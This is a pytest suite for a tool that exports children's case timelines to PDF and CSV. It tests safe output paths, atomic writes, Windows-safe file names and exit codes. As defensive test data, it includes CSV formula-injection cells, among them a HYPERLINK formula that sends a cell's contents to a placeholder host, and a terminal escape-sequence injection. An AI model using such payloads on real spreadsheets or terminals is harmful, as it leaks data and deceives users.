"""What we write: never an input or a special file, one writer, unique safe names, safe CSV,
a batch folder never mixed, interruptions that leave nothing partial, exit codes."""

from __future__ import annotations

import csv
import os
import re
import signal
import stat
import subprocess
import sys
import time
from pathlib import Path

import pytest
from click.testing import CliRunner
from pypdf import PdfReader

from timelines.cli import main
from timelines.export.csvfile import safe_cell
from timelines.export.files import write_atomic
from timelines.prepare.names import file_stem, unique_stems

ROOT = Path(__file__).resolve().parent.parent
SAMPLE = ROOT / "samples" / "child"


def invoke(*args: str):
    return CliRunner().invoke(main, [*args])


def copy_sample(folder: Path) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    for path in SAMPLE.iterdir():
        (folder / path.name).write_bytes(path.read_bytes())
    return folder


def snapshot(folder: Path) -> dict[str, bytes]:
    return {p.name: p.read_bytes() for p in sorted(folder.iterdir()) if p.is_file()}


# --- outputs never touch inputs or special files ---------------------------------------


@pytest.mark.parametrize("command", ["render", "siblings"])
def test_an_output_that_is_an_input_is_refused(tmp_path, command):
    data = copy_sample(tmp_path / "child")
    before = snapshot(data)
    result = invoke(command, str(data), "-o", str(data / "chronology.csv"))
    assert result.exit_code == 1
    assert result.output == (
        f"Error: will not write {data / 'chronology.csv'}: it is an input ({data});"
        " choose another output\n"
    )
    assert snapshot(data) == before


def test_links_to_an_input_are_refused_too(tmp_path):
    data = copy_sample(tmp_path / "child")
    before = snapshot(data)
    (tmp_path / "soft.pdf").symlink_to(data / "placements.csv")
    os.link(data / "children.csv", tmp_path / "hard.pdf")
    chronology = data / "chronology.csv"
    for out in (tmp_path / "soft.pdf", tmp_path / "hard.pdf"):
        result = invoke("render", str(data), "--redact", "-o", str(out))
        assert result.exit_code == 1 and "it is an input" in result.output, result.output
    # Given as files rather than a folder: the chronology itself, by another name.
    os.link(chronology, tmp_path / "other.pdf")
    result = invoke("render", str(chronology), "-o", str(tmp_path / "other.pdf"))
    assert result.exit_code == 1 and "it is an input" in result.output
    assert snapshot(data) == before


def test_special_files_and_folders_are_never_replaced(tmp_path):
    fifo = tmp_path / "pipe"
    os.mkfifo(fifo)
    for out in (fifo, tmp_path, Path("/dev/null")):
        result = invoke("render", str(SAMPLE), "-o", str(out))
        assert result.exit_code == 1, result.output
        assert result.output.startswith(f"Error: cannot write {out}: it is ")
        assert "give the path of a new file" in result.output
    assert stat.S_ISFIFO(os.stat(fifo).st_mode)
    assert stat.S_ISCHR(os.stat("/dev/null").st_mode)
    result = invoke("template", str(fifo), "--force")
    assert result.exit_code == 1 and stat.S_ISFIFO(os.stat(fifo).st_mode)


def test_the_writer_leaves_nothing_when_interrupted(tmp_path):
    def stopped(handle):
        handle.write(b"half")
        raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        write_atomic(tmp_path / "x.pdf", stopped)
    assert list(tmp_path.iterdir()) == []


def test_one_writer_writes_every_file():
    """Only timelines/export/files.py opens files for writing or moves them into place;
    PDFs are made in memory (a canvas on a BytesIO) and handed to it."""
    writes = re.compile(
        r"os\.(?:replace|rename|open)\(|mkstemp\(|\.write_(?:bytes|text)\(|shutil\.(?:copy|move)"
        r"|open\([^)]*[\"'][wax]b?\+?[\"']|Canvas\((?!buffer)"
    )
    for module in (ROOT / "timelines").rglob("*.py"):
        if module.name == "files.py" and module.parent.name == "export":
            continue
        assert writes.findall(module.read_text(encoding="utf-8")) == [], module


# --- batch folders ---------------------------------------------------------------------


def batch(*args: str):
    return invoke("batch", *args, "--jobs", "1", "--quiet", "--as-of", "01/06/2024")


def test_a_batch_never_writes_into_its_inputs_folder(tmp_path):
    data = copy_sample(tmp_path / "d")
    (data / "summary.csv").write_text("child_id\nmine\n")
    before = snapshot(data)
    for args in (
        ("--chronology", str(data / "summary.csv"), "--out", str(data)),
        (str(data), "--out", str(data)),
        (str(data / "chronology.csv"), "--out", str(tmp_path)),
    ):
        result = batch(*args)
        assert result.exit_code == 1, result.output
        assert "the folder holds an input" in result.output
    assert snapshot(data) == before


def test_a_second_batch_needs_force_and_leaves_no_stale_file(tmp_path):
    data = copy_sample(tmp_path / "d")
    out = tmp_path / "out"
    assert batch(str(data), "--out", str(out)).exit_code == 0
    assert (out / "children" / "C001.pdf").exists()
    result = batch(str(data), "--out", str(out))
    assert result.exit_code == 1
    assert result.output == (
        f"Error: --out {out}: the folder holds an earlier batch; use --force to replace it"
        " (only the files that batch wrote are removed) or choose a new folder\n"
    )
    (out / "notes.txt").write_text("the analyst's own file")
    # The child now fails: its old PDF must not stay beside a summary that says so.
    chronology = data / "chronology.csv"
    lines = chronology.read_text(encoding="utf-8").splitlines()
    lines[1] = lines[1].replace(lines[1].split(",")[1], "31/02/2020", 1)
    chronology.write_text("\n".join(lines) + "\n", encoding="utf-8")
    result = batch(str(data), "--out", str(out), "--force")
    assert result.exit_code == 1, result.output
    assert not (out / "children" / "C001.pdf").exists()
    with (out / "summary.csv").open(encoding="utf-8") as handle:
        assert [r["status"] for r in csv.DictReader(handle)] == ["failed"]
    assert (out / "notes.txt").read_text() == "the analyst's own file"


def test_a_folder_that_is_not_a_batch_is_refused(tmp_path):
    out = tmp_path / "out"
    out.mkdir()
    (out / "report.docx").write_text("not ours")
    result = batch(str(SAMPLE), "--out", str(out), "--force")
    assert result.exit_code == 1
    assert "the folder is not empty and holds no earlier batch" in result.output
    assert [p.name for p in out.iterdir()] == ["report.docx"]


def cohort(folder: Path, children: int) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    rows = ["child_id,date,event,category"]
    for n in range(children):
        rows += [f"K{n:03d},{1 + d % 27:02d}/{1 + d % 12:02d}/{2015 + d % 8},E{d},review"
                 for d in range(40)]  # fmt: skip
    (folder / "chronology.csv").write_text("\n".join(rows) + "\n", encoding="utf-8")
    return folder


@pytest.mark.parametrize(("sent", "code"), [(signal.SIGTERM, 143), (signal.SIGINT, 130)])
def test_a_signal_during_a_batch_leaves_no_partial_file_and_no_traceback(tmp_path, sent, code):
    data = cohort(tmp_path / "d", 120)
    out = tmp_path / "out"
    command = [sys.executable, "-m", "timelines", "batch", str(data), "--out", str(out)]
    process = subprocess.Popen(
        [*command, "--jobs", "2", "--quiet"],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        start_new_session=True,
    )
    deadline = time.monotonic() + 60
    while not list(out.glob("children/*.pdf")) and time.monotonic() < deadline:
        time.sleep(0.05)
    os.killpg(process.pid, sent)  # as a terminal or a service manager sends it
    _, err = process.communicate(timeout=60)
    assert process.returncode == code, err
    assert "Error: interrupted: no partial file was left" in err
    # No traceback from timelines' own code. (Now and then a worker that multiprocessing
    # was starting as the signal came says why it could not start: its own frames only.)
    assert "/timelines/" not in err and "KeyboardInterrupt" not in err, err
    assert [p for p in out.rglob("*") if p.name.endswith(".part")] == []


# --- file names ------------------------------------------------------------------------


def test_ids_that_escape_alike_get_their_own_files(tmp_path):
    ids = ["A/1", "A_1", "A 1", "A:1", "CON", "nul.txt", "a1", "A1", "trailing. ", "Zo\u00eb",
           "Zoe\u0308", "x" * 200]  # fmt: skip
    data = tmp_path / "ids.csv"
    rows = ["child_id,date,event,category"]
    rows += [f'"{cid}",01/02/2016,Event of {cid},referral' for cid in ids]
    data.write_text("\n".join(rows) + "\n", encoding="utf-8")
    out = tmp_path / "out"
    result = batch(str(data), "--out", str(out))
    assert result.exit_code == 0, result.output
    with (out / "summary.csv").open(encoding="utf-8") as handle:
        summary = list(csv.DictReader(handle))
    files = [row["child_pdf"] for row in summary]
    assert len({f.casefold() for f in files}) == len(summary) == len(list(out.glob("children/*")))
    for row in summary:
        title = PdfReader(out / row["child_pdf"]).metadata.title
        assert title == f"Timeline for child {row['child_id']}", row
    stems = [Path(f).stem for f in files]
    assert "A_1" in stems and "CON" not in stems and all(len(s) <= 90 for s in stems)


@pytest.mark.parametrize(
    ("child_id", "stem"),
    [
        ("C00001", "C00001"),
        ("A/1", "A_1-"),
        ("CON", "_CON-"),
        ("com1.pdf", "_com1.pdf-"),
        ("end. ", "end-"),
        ("..", "child-"),
    ],
)
def test_file_stems_are_safe_on_windows(child_id, stem):
    made = file_stem(child_id)
    assert (
        made == stem
        if not stem.endswith("-")
        else made.startswith(stem) and len(made) == len(stem) + 8
    )


def test_unique_stems_separate_ids_that_differ_in_case_only():
    stems = unique_stems(["a1", "A1", "B1"])
    assert stems["B1"] == "B1"
    assert stems["a1"].casefold() != stems["A1"].casefold()


# --- CSV we write ----------------------------------------------------------------------


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd", "'+cmd"),
        ("-cmd", "'-cmd"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("  =1", "'  =1"),
        ("\tplain", "'\tplain"),
        ("-3", "'-3"),
        ("+1.5", "'+1.5"),
        ("1-2", "1-2"),
        ("C1", "C1"),
        ("", ""),
    ],
)
def test_cells_a_spreadsheet_would_run_are_neutralised(cell, written):
    assert safe_cell(cell) == written


def test_summary_and_errors_hold_no_formula(tmp_path):
    data = tmp_path / "f.csv"
    data.write_text(
        "child_id,date,event,category\n"
        '"=HYPERLINK(""http://x.invalid/?""&B2,""x"")",01/02/2016,E,referral\n'
        "@SUM(1+1),01/02/2016,E,referral\n"
        '"\t+1",31/02/2016,E,referral\n',
        encoding="utf-8",
    )
    out = tmp_path / "out"
    result = batch(str(data), "--out", str(out))
    assert result.exit_code == 2, result.output
    for report in ("summary.csv", "errors.csv"):
        with (out / report).open(encoding="utf-8", newline="") as handle:
            for row in csv.reader(handle):
                for cell in row:
                    assert not cell.lstrip(" \t\r\n").startswith(("=", "+", "-", "@")), cell
                    assert not cell.startswith(("\t", "\r")), cell
    with (out / "summary.csv").open(encoding="utf-8") as handle:
        ids = [row["child_id"] for row in csv.DictReader(handle)]
    assert ids == ['\'=HYPERLINK("http://x.invalid/?"&B2,"x")', "'@SUM(1+1)", "'+1"]


# --- exit codes and terminal messages ---------------------------------------------------


@pytest.mark.parametrize(
    "args",
    [["render", str(SAMPLE), "--nope"], ["nope"], ["render"], ["batch", str(SAMPLE)]],
)
def test_usage_errors_exit_1(args):
    result = invoke(*args)
    assert result.exit_code == 1, result.output
    assert "Error:" in result.output


@pytest.mark.parametrize("value", ["nan", "inf", "-inf", "NaN"])
def test_not_a_number_of_months_is_an_input_error(tmp_path, value):
    result = invoke("render", str(SAMPLE), "-o", str(tmp_path / "x.pdf"), "--gap-months", value)
    assert result.exit_code == 1, result.output
    assert "--gap-months" in result.output and "bug" not in result.output
    assert not (tmp_path / "x.pdf").exists()


def test_escape_sequences_from_the_input_never_reach_the_terminal(tmp_path):
    result = invoke("render", str(SAMPLE), "--child", "\x1b]0;owned\x07\x1b[31mX\x1b[0m\x08")
    assert result.exit_code == 1
    assert result.output == (
        "error: no child with id 'X' in chronology.csv or placements.csv or children.csv\n"
        "Error: 1 error in the input; nothing was written\n"
    )


# --- scripts the page cannot draw ------------------------------------------------------


def test_right_to_left_text_is_refused_naming_the_cell(tmp_path):
    (tmp_path / "chronology.csv").write_text(
        "date,event,category\n01/01/2020,Visit,contact\n02/01/2020,Visit by \u0639\u0644\u064a,"
        "contact\n",
        encoding="utf-8",
    )
    (tmp_path / "placements.csv").write_text(
        "start_date,end_date,placement_type,carer\n01/01/2020,,foster,\u05d3\u05e0\u05d4\n",
        encoding="utf-8",
    )
    out = tmp_path / "x.pdf"
    result = invoke("render", str(tmp_path), "-o", str(out))
    assert result.exit_code == 1
    why = (
        "right-to-left text (Arabic, Hebrew…) cannot be drawn: it would come out reversed and"
        " unjoined; write it in Latin letters or leave it out"
    )
    assert result.output == (
        f'error: chronology.csv, row 3, column "event": {why}\n'
        f'error: placements.csv, row 2, column "carer": {why}\n'
        "Error: 2 errors in the input; nothing was written\n"
    )
    assert not out.exists()


def test_characters_no_font_has_are_reported_not_silently_boxed(tmp_path):
    (tmp_path / "chronology.csv").write_text(
        "date,event,category\n01/01/2020,Party \U0001f389 at home,contact\n", encoding="utf-8"
    )
    out = tmp_path / "x.pdf"
    result = invoke("render", str(tmp_path), "-o", str(out))
    assert result.exit_code == 0, result.output
    assert result.output.splitlines()[0] == (
        'warning: chronology.csv, row 2, column "event": no font has U+1F389 PARTY POPPER:'
        " drawn as an empty box"
    )
    assert out.exists()
